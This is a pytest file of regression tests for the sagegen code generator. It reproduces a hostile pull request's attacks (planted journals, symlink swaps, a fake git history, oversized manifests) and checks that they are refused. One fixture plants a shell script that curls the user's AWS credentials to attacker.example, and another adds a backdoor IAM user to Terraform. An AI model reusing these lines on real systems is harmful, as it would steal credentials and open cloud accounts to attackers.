"""A hostile pull request against the writer and the data-loss gate (issue 23): each reproduction of the
issue, run the way CI runs sagegen. Each failed on 995cbe1 (the note of issue 23 gives how each failed).

Only what is in a pull request is the attacker's: the spec, files under out/, committed directories.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import threading
import time
from pathlib import Path

import pytest
from helpers import SAGEGEN
from support import MVP_SPEC
from test_hostile import TIME_LIMIT, fingerprint, guarded

from sagegen.output.manifest import MANIFEST_NAME, digest

BACKDOOR = '\nresource "aws_iam_user" "backdoor" {\n  name = "backdoor"\n}\n'
PROVIDER = "terraform/.terraform/providers/registry.terraform.io/hashicorp/aws/5.100.0/linux_amd64/"
PROVIDER_BINARY = PROVIDER + "terraform-provider-aws_v5.100.0_x5"


def plant_journal(out: Path, staged: dict[str, str], writes: list[str], deletes: list[str] = ()) -> None:
    """What sagegen before issue 23 rolled forward: files under .sagegen-staging and a journal listing them."""
    for path, text in staged.items():
        (out / ".sagegen-staging" / path).parent.mkdir(parents=True, exist_ok=True)
        (out / ".sagegen-staging" / path).write_text(text)
    (out / ".sagegen-journal.json").write_text(json.dumps({"writes": writes, "deletes": list(deletes)}))


def test_check_sees_a_backdoor_behind_a_planted_staging_copy(repo: Path) -> None:
    """Issue 23 (1): the backdoor in iam.tf, the honest copy staged, a journal listing it: check said
    "up to date" (it compared the staged copy), and Terraform applies the committed file."""
    out = repo / "out"
    iam = out / "terraform" / "iam.tf"
    honest = iam.read_text()
    iam.write_text(honest + BACKDOOR)
    plant_journal(out, {"terraform/iam.tf": honest}, ["terraform/iam.tf"])
    result = guarded(repo, out, "check", "--diff")
    assert result.returncode == 1
    assert (
        "changed  out/terraform/iam.tf" in result.stdout and '+resource "aws_iam_user" "backdoor"' not in result.stdout
    )
    assert '-resource "aws_iam_user" "backdoor"' in result.stdout  # the diff shows what render would take out
    assert "unowned  out/.sagegen-journal.json" in result.stdout and "unowned  out/.sagegen-staging" in result.stdout
    diff = guarded(repo, out, "diff")
    assert '-resource "aws_iam_user" "backdoor"' in diff.stdout


def test_a_planted_journal_never_places_a_provider_binary_nor_deletes_a_users_file(repo: Path) -> None:
    """Issue 23 (2): render rolled a planted journal forward, moving a script into .terraform/providers
    (run by the next `terraform validate`) and deleting an untracked tfvars file."""
    out = repo / "out"
    tfvars = out / "terraform" / "secrets.auto.tfvars"
    tfvars.write_text('anthropic_api_key = "from-the-users-vault"\n')
    lock = '# planted\nprovider "registry.terraform.io/hashicorp/aws" {}\n'
    plant_journal(
        out,
        {
            PROVIDER_BINARY: "#!/bin/sh\ncurl -d @$HOME/.aws/credentials https://attacker.example\n",
            "terraform/.terraform.lock.hcl": lock,
        },
        [PROVIDER_BINARY, "terraform/.terraform.lock.hcl"],
        ["terraform/secrets.auto.tfvars"],
    )
    before = fingerprint(out, out / ".sagegen-staging")
    result = guarded(repo, out, "render")
    assert result.returncode == 0, result.stderr
    assert "finished an interrupted render" not in result.stdout + result.stderr
    assert not (out / PROVIDER_BINARY).exists() and not (out / "terraform" / ".terraform.lock.hcl").exists()
    assert tfvars.read_text() == 'anthropic_api_key = "from-the-users-vault"\n'
    assert fingerprint(out, out / ".sagegen-staging") == before  # nothing under out/ changed either
    check = guarded(repo, out, "check")
    assert check.returncode == 1 and "unowned  out/.sagegen-journal.json" in check.stdout


def test_a_directory_swapped_for_a_link_while_render_runs_writes_nothing_outside(repo: Path) -> None:
    """Issue 23 (3): a process swapped out/terraform for a link once rendering began; render wrote 20
    .tf files outside out/ (2 runs of 2)."""
    out, elsewhere = repo / "out", repo / "elsewhere"
    spec = repo / "specs" / "sage.yaml"
    before = fingerprint(elsewhere, repo / "none")
    swaps: list[int] = []
    for attempt in range(4):
        size = 21 + attempt  # a change every time, so each render writes
        text = spec.read_text()
        spec.write_text(text.replace(f"allocated_storage: {size - 1}", f"allocated_storage: {size}"))
        stop = threading.Event()
        racer = threading.Thread(target=swap_until, args=(out / "terraform", elsewhere, stop, swaps))
        racer.start()
        try:
            result = subprocess.run([*SAGEGEN, "render"], cwd=repo, capture_output=True, text=True, timeout=TIME_LIMIT)
        finally:
            stop.set()
            racer.join()
        assert result.returncode in (0, 1) and "Traceback" not in result.stderr, result.stderr
        assert fingerprint(elsewhere, repo / "none") == before, f"attempt {attempt}: render wrote outside out/"
    assert len(swaps) >= 3, "the racer never swapped the directory while a render was under way"


def swap_until(directory: Path, target: Path, stop: threading.Event, swaps: list[int]) -> None:
    """Once a render is under way in `directory`'s output directory (staging appears, as sagegen wrote it
    before issue 23, or a temporary file or a pending manifest, as it writes now), swap `directory` for a
    link to `target`, and hold it until `stop`; then put it back."""
    out, moved = directory.parent, directory.with_name(directory.name + ".moved")
    while not stop.is_set() and not under_way(out):
        time.sleep(0.0005)
    if stop.is_set():
        return
    directory.rename(moved)
    directory.symlink_to(target)
    swaps.append(1)
    stop.wait()
    directory.unlink()
    moved.rename(directory)


def under_way(out: Path) -> bool:
    try:
        names = os.listdir(out) + os.listdir(out / "terraform")
        return any(n == ".sagegen-staging" or n.endswith(".sagegen-tmp") for n in names) or (
            '"pending"' in (out / MANIFEST_NAME).read_text()
        )
    except OSError:
        return False


@pytest.mark.parametrize("command", ["render", "render --force", "check"])
def test_an_output_directory_that_is_a_link_is_refused_without_suggesting_force(repo: Path, command: str) -> None:
    """Issue 23 (4): `ln -s /elsewhere out; sagegen render` wrote 23 files there, and the refusal
    suggested --force, which then overwrote the user's README.md there."""
    shutil.rmtree(repo / "out")
    (repo / "elsewhere" / "README.md").write_text("the user's README\n")
    (repo / "out").symlink_to(repo / "elsewhere")
    result = guarded(repo, repo / "none", *command.split())
    assert result.returncode == 1 and "is a symbolic link" in result.stderr, result.stderr
    assert "--force" not in result.stderr
    assert (repo / "elsewhere" / "README.md").read_text() == "the user's README\n"


def test_impact_reads_the_base_from_the_users_repository_not_a_planted_one(tmp_path: Path) -> None:
    """Issue 23 (5): specs/sage.yaml as a link into a committed directory laid out as a git directory:
    `impact --base main` read the "base" from that planted history and said "no changes", exit 0, for
    a change that replaces the database (the same change without the link: LOSES DATA, exit 1)."""
    root = tmp_path / "repo"
    (root / "specs").mkdir(parents=True)
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main"]
    subprocess.run([*git, "init", "-q", str(root)], check=True)
    base = MVP_SPEC.read_text()
    (root / "specs" / "sage.yaml").write_text(base)
    subprocess.run([*git, "-C", str(root), "add", "-A"], check=True)
    subprocess.run([*git, "-C", str(root), "commit", "-qm", "base"], check=True)
    head = base.replace("db_name: sage\n", "db_name: sagedb\n")  # a new database: the old one is replaced
    assert head != base
    # The pull request: a planted repository whose `main` holds the new spec, and the spec a link into it.
    planted = tmp_path / "planted"
    subprocess.run([*git, "init", "-q", str(planted)], check=True)
    (planted / "sage.yaml").write_text(head)
    subprocess.run([*git, "-C", str(planted), "add", "-A"], check=True)
    subprocess.run([*git, "-C", str(planted), "commit", "-qm", "planted"], check=True)
    inside = root / "vendor" / "x"
    shutil.copytree(planted / ".git", inside)
    (inside / "sage.yaml").write_text(head)
    subprocess.run(["git", "--git-dir", str(inside), "config", "core.worktree", "."], check=True)
    subprocess.run(["git", "--git-dir", str(inside), "config", "core.bare", "false"], check=True)
    (root / "specs" / "sage.yaml").unlink()
    (root / "specs" / "sage.yaml").symlink_to("../vendor/x/sage.yaml")
    result = subprocess.run(
        [*SAGEGEN, "impact", "--base", "main"], cwd=root, capture_output=True, text=True, timeout=TIME_LIMIT
    )
    assert result.returncode == 1, result.stdout + result.stderr
    assert "is a symbolic link" in result.stderr and "specs/sage.yaml" in result.stderr
    # The same change as a file: the gate says what it does.
    (root / "specs" / "sage.yaml").unlink()
    (root / "specs" / "sage.yaml").write_text(head)
    honest = subprocess.run(
        [*SAGEGEN, "impact", "--base", "main"], cwd=root, capture_output=True, text=True, timeout=TIME_LIMIT
    )
    assert honest.returncode == 1 and "LOSES DATA" in honest.stdout, honest.stdout + honest.stderr


def test_a_spec_that_is_a_link_at_the_base_is_refused(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    (root / "specs").mkdir(parents=True)
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main"]
    subprocess.run([*git, "init", "-q", str(root)], check=True)
    (root / "real.yaml").write_text(MVP_SPEC.read_text())
    (root / "specs" / "sage.yaml").symlink_to("../real.yaml")
    subprocess.run([*git, "-C", str(root), "add", "-A"], check=True)
    subprocess.run([*git, "-C", str(root), "commit", "-qm", "base"], check=True)
    (root / "specs" / "sage.yaml").unlink()
    (root / "specs" / "sage.yaml").write_text(MVP_SPEC.read_text())
    result = subprocess.run(
        [*SAGEGEN, "impact", "--base", "main"], cwd=root, capture_output=True, text=True, timeout=TIME_LIMIT
    )
    assert result.returncode == 1 and "main:specs/sage.yaml: is a symbolic link at main" in result.stderr, result.stderr


def test_check_names_an_unowned_override_file(repo: Path) -> None:
    """Issue 23 (6): out/terraform/zz_override.tf creating an admin user left check at "up to date"."""
    out = repo / "out"
    (out / "terraform" / "zz_override.tf").write_text(BACKDOOR)
    result = guarded(repo, out, "check", "--diff")
    assert result.returncode == 1 and "unowned  out/terraform/zz_override.tf" in result.stdout, result.stdout


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


@pytest.mark.parametrize(
    "files, message",
    [
        (None, "nested too deeply"),
        ({"a" * 300 + ".tf": "0" * 64}, "has a name longer than 255 bytes"),
        ({"/".join(["d"] * 3000) + "/x.tf": "0" * 64}, "deeper or longer than any sagegen writes"),
    ],
    ids=["100000-nested-brackets", "300-character-name", "3000-components"],
)
def test_a_manifest_beyond_any_limit_is_a_located_error(repo: Path, files: dict | None, message: str) -> None:
    """Issue 23 (7): these ended in exit 3 (RecursionError, ENAMETOOLONG)."""
    out = repo / "out"
    if files is None:
        (out / MANIFEST_NAME).write_text(nested(100_000))
    else:
        body = json.loads((out / MANIFEST_NAME).read_text())
        body["files"].update(files)
        (out / MANIFEST_NAME).write_text(json.dumps(body))
    for command in ("render", "check", "diff"):
        result = guarded(repo, out, command)
        assert result.returncode == 1 and message in result.stderr, f"{command}: {result.stderr}"


def test_a_manifest_cannot_claim_terraforms_own_files(repo: Path) -> None:
    out = repo / "out"
    lock = out / "terraform" / ".terraform.lock.hcl"
    lock.write_text("# the user's lock file\n")
    body = json.loads((out / MANIFEST_NAME).read_text())
    body["files"]["terraform/.terraform.lock.hcl"] = digest(lock.read_text())
    (out / MANIFEST_NAME).write_text(json.dumps(body))
    result = guarded(repo, out, "render")
    assert result.returncode == 1 and "is Terraform's own file" in result.stderr
    assert lock.read_text() == "# the user's lock file\n"
    assert os.path.exists(lock)


def test_a_spec_with_more_phases_than_the_cap_is_refused_at_once(repo: Path) -> None:
    """Issue 23 (7): 80,000 empty phases (1 MB, inside the size limit) ran `check` past 500 s."""
    spec = repo / "specs" / "sage.yaml"
    phases = "".join(f"  p{n}: {{}}\n" for n in range(20_000))
    spec.write_text(spec.read_text() + "phases:\n" + phases)
    started = time.monotonic()
    result = guarded(repo, repo / "out", "check")
    assert result.returncode == 1 and "20000 phases; a spec has at most 12" in result.stderr, result.stderr
    assert time.monotonic() - started < TIME_LIMIT
